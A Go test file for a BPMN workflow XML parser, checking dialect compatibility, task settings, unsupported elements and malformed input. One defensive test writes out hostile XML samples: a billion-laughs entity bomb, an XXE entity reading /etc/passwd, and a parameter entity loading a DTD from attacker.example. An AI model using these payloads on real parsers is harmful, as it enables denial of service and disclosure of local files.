package bpmn

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
)

// doc wraps process content in a definitions element declaring the usual
// prefixes.
func doc(process string) string {
	return `<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
  xmlns:venue="http://venueplatform.io/schema/bpmn/1.0"
  xmlns:camunda="http://camunda.org/schema/1.0/bpmn"
  xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" id="defs" name="test">
  <bpmn:message id="msg_paid" name="PaymentReceived"/>
  <bpmn:message id="msg_nameless"/>
  <bpmn:process id="p" isExecutable="true">` + process + `</bpmn:process>
</bpmn:definitions>`
}

func mustParse(t *testing.T, xml string) *Definitions {
	t.Helper()
	d, err := Parse([]byte(xml))
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	return d
}

func findIssue(issues []Issue, id string) *Issue {
	for i := range issues {
		if issues[i].ElementID == id {
			return &issues[i]
		}
	}
	return nil
}

func readTestdata(t *testing.T, name string) *Definitions {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return mustParse(t, string(b))
}

// Models exported from Camunda 7, Flowable and Activiti mean what the same
// model written with our own attributes means.
func TestEngineDialectsMatchVenueModel(t *testing.T) {
	t.Parallel()
	want := readTestdata(t, "leave_venue.bpmn")
	if len(want.Unsupported) != 0 {
		t.Fatalf("venue model has issues: %v", want.Unsupported)
	}
	if issues := Validate(want); len(issues) != 0 {
		t.Fatalf("venue model does not validate: %v", issues)
	}
	wp := want.Processes[0]
	if wp.StartForm != "leave-apply" {
		t.Fatalf("StartForm = %q", wp.StartForm)
	}
	mgr := wp.Elements["managerApproval"].User
	if mgr.Strategy != AssignRole || !slices.Equal(mgr.CandidateRoles, []string{"store_manager", "area_manager"}) || mgr.FormKey != "leave-approve" || mgr.DueDate != "P2D" {
		t.Fatalf("managerApproval = %+v", mgr)
	}

	activities := map[string]string{
		"leave_camunda7.bpmn": "${notifyEmployee}",
		"leave_flowable.bpmn": "com.example.leave.NotifyEmployee",
		"leave_activiti.bpmn": "com.example.leave.NotifyEmployee",
	}
	for file, activity := range activities {
		t.Run(file, func(t *testing.T) {
			got := readTestdata(t, file)
			if len(got.Unsupported) != 0 {
				t.Fatalf("issues: %v", got.Unsupported)
			}
			if issues := Validate(got); len(issues) != 0 {
				t.Fatalf("does not validate: %v", issues)
			}
			gp := got.Processes[0]
			if gp.StartForm != wp.StartForm || !gp.IsExecutable {
				t.Errorf("StartForm = %q, executable %v", gp.StartForm, gp.IsExecutable)
			}
			if !slices.Equal(gp.Order, wp.Order) {
				t.Fatalf("elements %v, want %v", gp.Order, wp.Order)
			}
			for _, id := range wp.Order {
				w, g := wp.Elements[id], gp.Elements[id]
				if g.Kind != w.Kind || g.Name != w.Name || g.DefaultFlow != w.DefaultFlow || g.Documentation != w.Documentation {
					t.Errorf("%s: got %s %q default %q, want %s %q default %q", id, g.Kind, g.Name, g.DefaultFlow, w.Kind, w.Name, w.DefaultFlow)
				}
				if !reflect.DeepEqual(g.User, w.User) {
					t.Errorf("%s user settings:\n got %+v\nwant %+v", id, g.User, w.User)
				}
				if !sameSet(g.Incoming, w.Incoming) || !sameSet(g.Outgoing, w.Outgoing) {
					t.Errorf("%s flows: in %v out %v, want in %v out %v", id, g.Incoming, g.Outgoing, w.Incoming, w.Outgoing)
				}
			}
			for _, id := range wp.FlowIDs {
				w, g := wp.Flows[id], gp.Flows[id]
				if g == nil || g.Source != w.Source || g.Target != w.Target || g.Condition != w.Condition {
					t.Errorf("flow %s = %+v, want %+v", id, g, w)
				}
			}
			if g := gp.Flows["f_long"]; g.RawCondition != "${days > 3}" || g.Condition != "days > 3" {
				t.Errorf("f_long condition %q → %q", g.RawCondition, g.Condition)
			}
			svc := gp.Elements["notify"].Service
			if svc.Activity != activity || svc.Result != "notified" {
				t.Errorf("notify = %+v", svc)
			}
		})
	}
}

func sameSet(a, b []string) bool {
	a, b = slices.Clone(a), slices.Clone(b)
	slices.Sort(a)
	slices.Sort(b)
	return slices.Equal(a, b)
}

func TestParseVenueSettings(t *testing.T) {
	t.Parallel()
	d := mustParse(t, doc(`
    <bpmn:startEvent id="start"/>
    <bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="apply"/>
    <bpmn:userTask id="apply" venue:assigneeStrategy="initiator"/>
    <bpmn:sequenceFlow id="f2" sourceRef="apply" targetRef="countersign"/>
    <bpmn:userTask id="countersign" name="Countersign"
        venue:candidateRoles="finance" venue:formKey="expense-approve" venue:dueDate="P1DT2H"
        venue:actions="approve, reject,return,addSigner" venue:timeoutAfter="PT4H" venue:timeoutAction="remind"
        venue:rejectTarget="apply" venue:org="org-7">
      <bpmn:extensionElements>
        <venue:fieldPermissions>
          <venue:field name="amount" access="read"/>
          <venue:field name="comment" access="write"/>
          <venue:field name="iban" access="hidden"/>
        </venue:fieldPermissions>
      </bpmn:extensionElements>
      <bpmn:multiInstanceLoopCharacteristics venue:mode="ratio" venue:ratio="0.6" camunda:collection="${signers}" camunda:elementVariable="signer">
        <bpmn:completionCondition xsi:type="bpmn:tFormalExpression">${nrOfCompletedInstances ge 2}</bpmn:completionCondition>
      </bpmn:multiInstanceLoopCharacteristics>
    </bpmn:userTask>
    <bpmn:boundaryEvent id="escalate" attachedToRef="countersign" cancelActivity="false">
      <bpmn:timerEventDefinition><bpmn:timeDuration xsi:type="bpmn:tFormalExpression">PT24H</bpmn:timeDuration></bpmn:timerEventDefinition>
    </bpmn:boundaryEvent>
    <bpmn:boundaryEvent id="cancelled" attachedToRef="countersign">
      <bpmn:messageEventDefinition messageRef="msg_paid"/>
    </bpmn:boundaryEvent>
    <bpmn:sequenceFlow id="f3" sourceRef="countersign" targetRef="book"/>
    <bpmn:serviceTask id="book" venue:activity="BookExpense" venue:result="booking">
      <bpmn:extensionElements>
        <venue:input name="amount" value="${amount}"/>
        <venue:input name="memo" value="'expense ' + id"/>
      </bpmn:extensionElements>
    </bpmn:serviceTask>
    <bpmn:sequenceFlow id="f4" sourceRef="book" targetRef="calc"/>
    <bpmn:scriptTask id="calc" scriptFormat="expr" venue:result="total"><bpmn:script>amount * 1.2</bpmn:script></bpmn:scriptTask>
    <bpmn:sequenceFlow id="f5" sourceRef="calc" targetRef="wait"/>
    <bpmn:intermediateCatchEvent id="wait"><bpmn:timerEventDefinition><bpmn:timeCycle>R3/PT10M</bpmn:timeCycle></bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>
    <bpmn:sequenceFlow id="f6" sourceRef="wait" targetRef="paid"/>
    <bpmn:intermediateCatchEvent id="paid"><bpmn:messageEventDefinition messageRef="msg_nameless"/></bpmn:intermediateCatchEvent>
    <bpmn:sequenceFlow id="f7" sourceRef="paid" targetRef="sub"/>
    <bpmn:subProcess id="sub">
      <bpmn:startEvent id="sub_start"/>
      <bpmn:sequenceFlow id="sf1" sourceRef="sub_start" targetRef="sub_call"/>
      <bpmn:callActivity id="sub_call" calledElement="archive"/>
      <bpmn:sequenceFlow id="sf2" sourceRef="sub_call" targetRef="sub_end"/>
      <bpmn:endEvent id="sub_end"/>
    </bpmn:subProcess>
    <bpmn:sequenceFlow id="f8" sourceRef="sub" targetRef="end"/>
    <bpmn:sequenceFlow id="f9" sourceRef="escalate" targetRef="end"/>
    <bpmn:sequenceFlow id="f10" sourceRef="cancelled" targetRef="end"/>
    <bpmn:endEvent id="end"><bpmn:terminateEventDefinition/></bpmn:endEvent>`))
	if len(d.Unsupported) != 0 {
		t.Fatalf("issues: %v", d.Unsupported)
	}
	if issues := Validate(d); len(issues) != 0 {
		t.Fatalf("Validate: %v", issues)
	}
	p := d.Processes[0]
	cs := p.Elements["countersign"]
	wantUser := &UserTaskSettings{
		Strategy:       AssignRole,
		CandidateRoles: []string{"finance"},
		Org:            "org-7",
		FormKey:        "expense-approve",
		DueDate:        "P1DT2H",
		FieldPerms:     map[string]string{"amount": "read", "comment": "write", "iban": "hidden"},
		Actions:        []string{"approve", "reject", "return", "addSigner"},
		TimeoutAfter:   "PT4H",
		TimeoutAction:  "remind",
		RejectMode:     "return",
		RejectTarget:   "apply",
	}
	if !reflect.DeepEqual(cs.User, wantUser) {
		t.Errorf("user settings\n got %+v\nwant %+v", cs.User, wantUser)
	}
	wantMI := &MultiInstance{Mode: MultiRatio, Ratio: 0.6, Collection: "signers", ElementVariable: "signer", CompletionCondition: "nrOfCompletedInstances >= 2"}
	if !reflect.DeepEqual(cs.Multi, wantMI) {
		t.Errorf("multi-instance\n got %+v\nwant %+v", cs.Multi, wantMI)
	}
	if !slices.Equal(cs.Boundaries, []string{"escalate", "cancelled"}) {
		t.Errorf("boundaries = %v", cs.Boundaries)
	}
	if e := p.Elements["escalate"]; e.Event != EventTimer || e.TimerDuration != "PT24H" || e.CancelActivity || e.AttachedTo != "countersign" {
		t.Errorf("escalate = %+v", e)
	}
	if e := p.Elements["cancelled"]; e.Event != EventMessage || e.MessageName != "PaymentReceived" || !e.CancelActivity {
		t.Errorf("cancelled = %+v", e)
	}
	if e := p.Elements["paid"]; e.MessageName != "msg_nameless" {
		t.Errorf("nameless message resolves to %q, want its id", e.MessageName)
	}
	if e := p.Elements["wait"]; e.Event != EventTimer || e.TimerCycle != "R3/PT10M" {
		t.Errorf("wait = %+v", e)
	}
	if e := p.Elements["end"]; e.Event != EventTerminate {
		t.Errorf("end = %+v", e)
	}
	wantSvc := &ServiceTaskSettings{Activity: "BookExpense", Result: "booking", Input: map[string]string{"amount": "amount", "memo": "'expense ' + id"}}
	if !reflect.DeepEqual(p.Elements["book"].Service, wantSvc) {
		t.Errorf("service = %+v", p.Elements["book"].Service)
	}
	if s := p.Elements["calc"].Script; s.Format != "expr" || s.Script != "amount * 1.2" || s.Result != "total" {
		t.Errorf("script = %+v", s)
	}
	sub := p.Elements["sub"].SubProcess
	if sub == nil || !slices.Equal(sub.Order, []string{"sub_start", "sub_call", "sub_end"}) || sub.Elements["sub_call"].CalledElement != "archive" {
		t.Fatalf("subprocess = %+v", sub)
	}
	if el, in := p.Find("sub_call"); el == nil || in != sub {
		t.Errorf("Find(sub_call) = %v, %v", el, in)
	}
	if u := p.Elements["apply"].User; u.Strategy != AssignInitiator {
		t.Errorf("apply = %+v", u)
	}
	if cs.Line == 0 || p.Flows["f1"].Line == 0 {
		t.Errorf("lines not recorded")
	}
}

func TestParseMultiInstanceDefaults(t *testing.T) {
	t.Parallel()
	d := mustParse(t, doc(`
    <bpmn:userTask id="all" venue:candidateRoles="r"><bpmn:multiInstanceLoopCharacteristics/></bpmn:userTask>
    <bpmn:userTask id="seq" venue:candidateRoles="r"><bpmn:multiInstanceLoopCharacteristics isSequential="true"/></bpmn:userTask>
    <bpmn:userTask id="any" venue:candidateRoles="r"><bpmn:multiInstanceLoopCharacteristics venue:mode="any"/></bpmn:userTask>
    <bpmn:userTask id="seq2" venue:candidateRoles="r"><bpmn:multiInstanceLoopCharacteristics venue:mode="sequential"/></bpmn:userTask>
    <bpmn:userTask id="bad" venue:candidateRoles="r"><bpmn:multiInstanceLoopCharacteristics venue:ratio="half"/></bpmn:userTask>`))
	p := d.Processes[0]
	for id, want := range map[string]MultiInstance{
		"all":  {Mode: MultiAll},
		"seq":  {Mode: MultiSequential, Sequential: true},
		"any":  {Mode: MultiAny},
		"seq2": {Mode: MultiSequential, Sequential: true},
		"bad":  {Mode: MultiRatio},
	} {
		if got := *p.Elements[id].Multi; got != want {
			t.Errorf("%s = %+v, want %+v", id, got, want)
		}
	}
	if is := findIssue(d.Unsupported, "bad"); is == nil || !strings.Contains(is.Message, "ratio") {
		t.Errorf("bad ratio issue = %v", is)
	}
}

func TestAssigneeStrategyInference(t *testing.T) {
	t.Parallel()
	d := mustParse(t, doc(`
    <bpmn:startEvent id="s" camunda:initiator="starter"/>
    <bpmn:userTask id="user" camunda:assignee="kermit"/>
    <bpmn:userTask id="init" camunda:assignee="${initiator}"/>
    <bpmn:userTask id="starter" camunda:assignee="${starter}"/>
    <bpmn:userTask id="field" camunda:assignee="${applicant}"/>
    <bpmn:userTask id="expr" camunda:assignee="${leaders[dept]}"/>
    <bpmn:userTask id="roles" camunda:candidateGroups="a, b" camunda:candidateUsers="x"/>
    <bpmn:userTask id="users" camunda:candidateUsers="x,y"/>
    <bpmn:userTask id="explicit" venue:assigneeStrategy="orgLeader" venue:org="o1" camunda:assignee="kermit"/>
    <bpmn:userTask id="venueWins" venue:assignee="piggy" camunda:assignee="kermit"/>
    <bpmn:userTask id="formField" venue:assigneeStrategy="formField" venue:assignee="${approver}"/>
    <bpmn:userTask id="none"/>
    <bpmn:userTask id="owner"><bpmn:potentialOwner><bpmn:resourceAssignmentExpression><bpmn:formalExpression>group(accounting), user(fozzie)</bpmn:formalExpression></bpmn:resourceAssignmentExpression></bpmn:potentialOwner></bpmn:userTask>
    <bpmn:userTask id="performer"><bpmn:humanPerformer><bpmn:resourceAssignmentExpression><bpmn:formalExpression>gonzo</bpmn:formalExpression></bpmn:resourceAssignmentExpression></bpmn:humanPerformer></bpmn:userTask>`))
	p := d.Processes[0]
	cases := map[string]struct{ strategy, assignee string }{
		"user":      {AssignUser, "kermit"},
		"init":      {AssignInitiator, ""},
		"starter":   {AssignInitiator, ""},
		"field":     {AssignFormField, "applicant"},
		"expr":      {AssignExpression, "leaders[dept]"},
		"roles":     {AssignRole, ""},
		"users":     {AssignUser, ""},
		"explicit":  {AssignOrgLeader, "kermit"},
		"venueWins": {AssignUser, "piggy"},
		"formField": {AssignFormField, "approver"},
		"none":      {"", ""},
		"owner":     {AssignRole, ""},
		"performer": {AssignUser, "gonzo"},
	}
	for id, want := range cases {
		u := p.Elements[id].User
		if u.Strategy != want.strategy || u.Assignee != want.assignee {
			t.Errorf("%s: strategy %q assignee %q, want %q %q", id, u.Strategy, u.Assignee, want.strategy, want.assignee)
		}
	}
	if u := p.Elements["roles"].User; !slices.Equal(u.CandidateRoles, []string{"a", "b"}) || !slices.Equal(u.CandidateUsers, []string{"x"}) {
		t.Errorf("roles = %+v", u)
	}
	if u := p.Elements["users"].User; !slices.Equal(u.CandidateUsers, []string{"x", "y"}) {
		t.Errorf("users = %+v", u)
	}
	if u := p.Elements["owner"].User; !slices.Equal(u.CandidateRoles, []string{"accounting"}) || !slices.Equal(u.CandidateUsers, []string{"fozzie"}) {
		t.Errorf("owner = %+v", u)
	}
}

func TestServiceTaskEngineAttributes(t *testing.T) {
	t.Parallel()
	d := mustParse(t, `<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"
	  xmlns:camunda="http://camunda.org/schema/1.0/bpmn" xmlns:flowable="http://flowable.org/bpmn" xmlns:activiti="http://activiti.org/bpmn" xmlns:venue="http://venueplatform.io/schema/bpmn/1.0">
	<process id="p">
	  <serviceTask id="venue" venue:activity="A" camunda:class="B"/>
	  <serviceTask id="delegate" camunda:delegateExpression="${sendMail}" camunda:resultVariable="r1"/>
	  <serviceTask id="class" camunda:class="com.x.Y"/>
	  <serviceTask id="external" camunda:type="external" camunda:topic="charge-card"/>
	  <serviceTask id="typed" camunda:type="mail"/>
	  <serviceTask id="flowable" flowable:delegateExpression="${f}" flowable:resultVariable="r2"/>
	  <serviceTask id="activiti" activiti:class="com.a.B" activiti:resultVariable="r3"/>
	  <serviceTask id="bean" camunda:expression="${bean.run()}"/>
	  <scriptTask id="groovy" scriptFormat="groovy" camunda:resultVariable="x"><script>1+1</script></scriptTask>
	  <scriptTask id="js" scriptFormat="javascript"><script>1+1</script></scriptTask>
	  <scriptTask id="juel" scriptFormat="juel"><script>${1+1}</script></scriptTask>
	  <scriptTask id="plain" flowable:resultVariable="y"><script>a + b</script></scriptTask>
	</process></definitions>`)
	p := d.Processes[0]
	if !p.IsExecutable {
		t.Errorf("a process without isExecutable counts as executable")
	}
	for id, want := range map[string][2]string{
		"venue": {"A", ""}, "delegate": {"${sendMail}", "r1"}, "class": {"com.x.Y", ""}, "external": {"charge-card", ""},
		"typed": {"mail", ""}, "flowable": {"${f}", "r2"}, "activiti": {"com.a.B", "r3"}, "bean": {"", ""},
	} {
		s := p.Elements[id].Service
		if s.Activity != want[0] || s.Result != want[1] {
			t.Errorf("%s = %+v, want %v", id, s, want)
		}
	}
	for _, id := range []string{"bean", "groovy", "js", "juel"} {
		if findIssue(d.Unsupported, id) == nil {
			t.Errorf("%s not reported", id)
		}
	}
	if s := p.Elements["groovy"].Script; s.Format != "groovy" || s.Result != "x" {
		t.Errorf("groovy = %+v", s)
	}
	if s := p.Elements["plain"].Script; s.Format != "expr" || s.Result != "y" || findIssue(d.Unsupported, "plain") != nil {
		t.Errorf("plain = %+v", s)
	}
}

func TestParseUnsupportedIsReportedNotDropped(t *testing.T) {
	t.Parallel()
	d := mustParse(t, doc(`
    <bpmn:startEvent id="s1"/>
    <bpmn:startEvent id="s2"><bpmn:conditionalEventDefinition><bpmn:condition>${x}</bpmn:condition></bpmn:conditionalEventDefinition></bpmn:startEvent>
    <bpmn:sendTask id="send"/>
    <bpmn:receiveTask id="receive"/>
    <bpmn:businessRuleTask id="rule"/>
    <bpmn:complexGateway id="complex"/>
    <bpmn:eventBasedGateway id="eventGw"/>
    <bpmn:transaction id="tx"><bpmn:task id="tx_inner"/><bpmn:sendTask id="tx_send"/></bpmn:transaction>
    <bpmn:adHocSubProcess id="adhoc"><bpmn:task id="adhoc_inner"/></bpmn:adHocSubProcess>
    <bpmn:subProcess id="eventSub" triggeredByEvent="true"><bpmn:startEvent id="eventSub_start"><bpmn:errorEventDefinition/></bpmn:startEvent></bpmn:subProcess>
    <bpmn:intermediateCatchEvent id="signalCatch"><bpmn:signalEventDefinition/></bpmn:intermediateCatchEvent>
    <bpmn:intermediateCatchEvent id="linkCatch"><bpmn:linkEventDefinition name="L"/></bpmn:intermediateCatchEvent>
    <bpmn:intermediateCatchEvent id="twoTriggers"><bpmn:timerEventDefinition/><bpmn:messageEventDefinition/></bpmn:intermediateCatchEvent>
    <bpmn:intermediateCatchEvent id="noTrigger"/>
    <bpmn:intermediateThrowEvent id="throw"/>
    <bpmn:intermediateThrowEvent id="escalationThrow"><bpmn:escalationEventDefinition/></bpmn:intermediateThrowEvent>
    <bpmn:task id="host" isForCompensation="false"/>
    <bpmn:boundaryEvent id="errorBoundary" attachedToRef="host"><bpmn:errorEventDefinition/></bpmn:boundaryEvent>
    <bpmn:boundaryEvent id="compBoundary" attachedToRef="host"><bpmn:compensateEventDefinition/></bpmn:boundaryEvent>
    <bpmn:task id="compensator" isForCompensation="true"/>
    <bpmn:endEvent id="errorEnd"><bpmn:errorEventDefinition/></bpmn:endEvent>
    <bpmn:endEvent id="msgEnd"><bpmn:messageEventDefinition/></bpmn:endEvent>
    <bpmn:task id="loop"><bpmn:standardLoopCharacteristics/></bpmn:task>
    <bpmn:serviceTask id="miService" venue:activity="x"><bpmn:multiInstanceLoopCharacteristics/></bpmn:serviceTask>
    <bpmn:userTask id="cardinality" venue:candidateRoles="r"><bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>3</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics></bpmn:userTask>
    <bpmn:dataObject id="do1"/>
    <bpmn:dataObjectReference id="dor1" dataObjectRef="do1"/>
    <bpmn:dataStoreReference id="dsr1"/>
    <bpmn:textAnnotation id="ta1"><bpmn:text>note</bpmn:text></bpmn:textAnnotation>
    <bpmn:association id="as1" sourceRef="ta1" targetRef="send"/>
    <bpmn:group id="g1"/>
    <bpmn:laneSet id="ls1"><bpmn:lane id="lane1"><bpmn:flowNodeRef>send</bpmn:flowNodeRef></bpmn:lane></bpmn:laneSet>`))
	p := d.Processes[0]
	reported := []string{
		"s2", "send", "receive", "rule", "complex", "eventGw", "tx", "tx_send", "adhoc", "eventSub", "eventSub_start",
		"signalCatch", "linkCatch", "twoTriggers", "noTrigger", "throw", "escalationThrow", "errorBoundary", "compBoundary",
		"compensator", "errorEnd", "msgEnd", "loop", "miService", "cardinality",
	}
	for _, id := range reported {
		is := findIssue(d.Unsupported, id)
		if is == nil {
			t.Errorf("%s not reported", id)
			continue
		}
		if el, _ := p.Find(id); el == nil {
			t.Errorf("%s reported but dropped from the model", id)
		} else if is.Type != string(el.Kind) || is.Message == "" || is.Line == 0 {
			t.Errorf("%s issue = %+v", id, is)
		}
	}
	for _, id := range []string{"s1", "host", "tx_inner", "adhoc_inner", "do1", "dor1", "dsr1", "ta1", "as1", "g1", "ls1", "lane1"} {
		if is := findIssue(d.Unsupported, id); is != nil {
			t.Errorf("%s wrongly reported: %+v", id, is)
		}
	}
	var multi bool
	for _, is := range d.Unsupported {
		if is.ElementID == "s2" && strings.Contains(is.Message, "more than one start event") {
			multi = true
		}
	}
	if !multi {
		t.Errorf("second start event not reported as such: %v", d.Unsupported)
	}
	if got := p.Elements["signalCatch"].Event; got != "signal" {
		t.Errorf("signal catch event kind = %q", got)
	}
	if len(p.Elements["host"].Boundaries) != 2 {
		t.Errorf("host boundaries = %v", p.Elements["host"].Boundaries)
	}
}

func TestParseFlowsAndConditions(t *testing.T) {
	t.Parallel()
	d := mustParse(t, doc(`
    <bpmn:startEvent id="s"><bpmn:outgoing>bogus</bpmn:outgoing></bpmn:startEvent>
    <bpmn:exclusiveGateway id="gw" default="tns:f_default"/>
    <bpmn:task id="a"/>
    <bpmn:task id="b"/>
    <bpmn:task id="c"/>
    <bpmn:sequenceFlow id="f0" sourceRef="s" targetRef="gw"/>
    <bpmn:sequenceFlow id="f_a" sourceRef="gw" targetRef="a"><bpmn:conditionExpression xsi:type="bpmn:tFormalExpression"><![CDATA[${amount > 1000 && approved}]]></bpmn:conditionExpression></bpmn:sequenceFlow>
    <bpmn:sequenceFlow id="f_bad" sourceRef="gw" targetRef="b"><bpmn:conditionExpression>${amount =! 3}</bpmn:conditionExpression></bpmn:sequenceFlow>
    <bpmn:sequenceFlow id="f_nocompile" sourceRef="gw" targetRef="b"><bpmn:conditionExpression>amount &gt;</bpmn:conditionExpression></bpmn:sequenceFlow>
    <bpmn:sequenceFlow id="f_lang" sourceRef="gw" targetRef="b"><bpmn:conditionExpression language="javascript">amount &gt; 1</bpmn:conditionExpression></bpmn:sequenceFlow>
    <bpmn:sequenceFlow id="f_default" sourceRef="gw" targetRef="c"/>`))
	p := d.Processes[0]
	if got := p.Elements["s"].Outgoing; !slices.Equal(got, []string{"f0"}) {
		t.Errorf("start outgoing = %v (derived from flows, not <outgoing>)", got)
	}
	gw := p.Elements["gw"]
	if !slices.Equal(gw.Outgoing, []string{"f_a", "f_bad", "f_nocompile", "f_lang", "f_default"}) || !slices.Equal(gw.Incoming, []string{"f0"}) {
		t.Errorf("gateway in %v out %v", gw.Incoming, gw.Outgoing)
	}
	if gw.DefaultFlow != "f_default" {
		t.Errorf("default = %q", gw.DefaultFlow)
	}
	if f := p.Flows["f_a"]; f.Condition != "amount > 1000 && approved" || f.RawCondition != "${amount > 1000 && approved}" {
		t.Errorf("f_a = %+v", f)
	}
	for _, id := range []string{"f_bad", "f_nocompile", "f_lang"} {
		is := findIssue(d.Unsupported, id)
		if is == nil || is.Type != "sequenceFlow" {
			t.Errorf("%s: issue %v", id, is)
		}
		if f := p.Flows[id]; f.Condition != "" || f.RawCondition == "" {
			t.Errorf("%s = %+v", id, f)
		}
	}
}

func TestParseNamespacePrefixesAndEncoding(t *testing.T) {
	t.Parallel()
	// ISO-8859-1: "é" is the single byte 0xE9.
	latin1 := []byte("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n" +
		"<x:definitions xmlns:x=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" id=\"d\">" +
		"<x:process id=\"p\" isExecutable=\"false\"><x:task id=\"t\" name=\"Caf\xe9\"/></x:process></x:definitions>")
	d := mustParse(t, string(latin1))
	p := d.Processes[0]
	if p.IsExecutable || p.Elements["t"].Name != "Café" {
		t.Errorf("got executable %v name %q", p.IsExecutable, p.Elements["t"].Name)
	}
	bom := append([]byte("\xef\xbb\xbf"), []byte(`<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"><process id="p"><task id="t"/></process></definitions>`)...)
	if _, err := Parse(bom); err != nil {
		t.Errorf("UTF-8 BOM: %v", err)
	}
	// A vendor element named like ours in another namespace is not ours.
	d = mustParse(t, `<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:o="urn:other"><process id="p"><o:task id="fake"/><task id="real"/></process></definitions>`)
	if _, ok := d.Processes[0].Elements["fake"]; ok {
		t.Errorf("element from another namespace read as BPMN")
	}
}

func TestParseRefusesUnsafeDocuments(t *testing.T) {
	t.Parallel()
	billionLaughs := `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"><process id="p" name="&lol9;"/></definitions>`
	xxe := `<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"><process id="p" name="&xxe;"/></definitions>`
	paramEntity := `<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>`
	for name, in := range map[string]string{"billion laughs": billionLaughs, "external entity": xxe, "parameter entity": paramEntity} {
		_, err := Parse([]byte(in))
		if !errors.Is(err, ErrDoctype) {
			t.Errorf("%s: err = %v, want ErrDoctype", name, err)
		}
	}
	// Without a DOCTYPE an entity reference is just an error.
	if _, err := Parse([]byte(`<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"><process id="p" name="&xxe;"/></definitions>`)); err == nil {
		t.Errorf("undefined entity accepted")
	}

	var big bytes.Buffer
	big.WriteString(`<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"><process id="p"><documentation>`)
	for big.Len() < 10<<20 {
		big.WriteString("padding padding padding padding padding padding padding padding ")
	}
	big.WriteString(`</documentation></process></definitions>`)
	if _, err := Parse(big.Bytes()); err == nil || !strings.Contains(err.Error(), "limit") {
		t.Errorf("10 MB document: err = %v", err)
	}

	deep := `<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"><process id="p">` +
		strings.Repeat("<extensionElements>", 500) + strings.Repeat("</extensionElements>", 500) + `</process></definitions>`
	if _, err := Parse([]byte(deep)); err == nil || !strings.Contains(err.Error(), "nested") {
		t.Errorf("deep nesting: err = %v", err)
	}
}

func TestParseRejectsNonBPMN(t *testing.T) {
	t.Parallel()
	for name, in := range map[string]string{
		"empty":        ``,
		"not xml":      `hello`,
		"no namespace": `<definitions><process id="p"/></definitions>`,
		"other root":   `<process xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" id="p"/>`,
		"truncated":    `<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"><process id="p">`,
		"duplicate id": `<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"><process id="p"><task id="t"/><task id="t"/></process></definitions>`,
		"missing id":   `<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"><process id="p"><task/></process></definitions>`,
		"bad encoding": `<?xml version="1.0" encoding="x-no-such"?><definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>`,
	} {
		if _, err := Parse([]byte(in)); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}
